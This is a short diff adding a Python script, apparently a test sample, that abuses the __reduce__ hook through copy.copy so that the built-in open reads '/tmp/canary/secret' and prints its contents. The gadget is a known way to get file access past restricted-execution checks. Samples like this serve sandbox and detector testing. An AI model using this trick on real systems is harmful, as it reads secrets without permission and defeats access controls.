@@ -1,0 +1,12 @@
+# source: own
+# effect: secret
+
+import copy
+
+
+class Payload:
+    def __reduce__(self):
+        return open, ("/tmp/canary/secret",)
+
+
+print(copy.copy(Payload()).read())
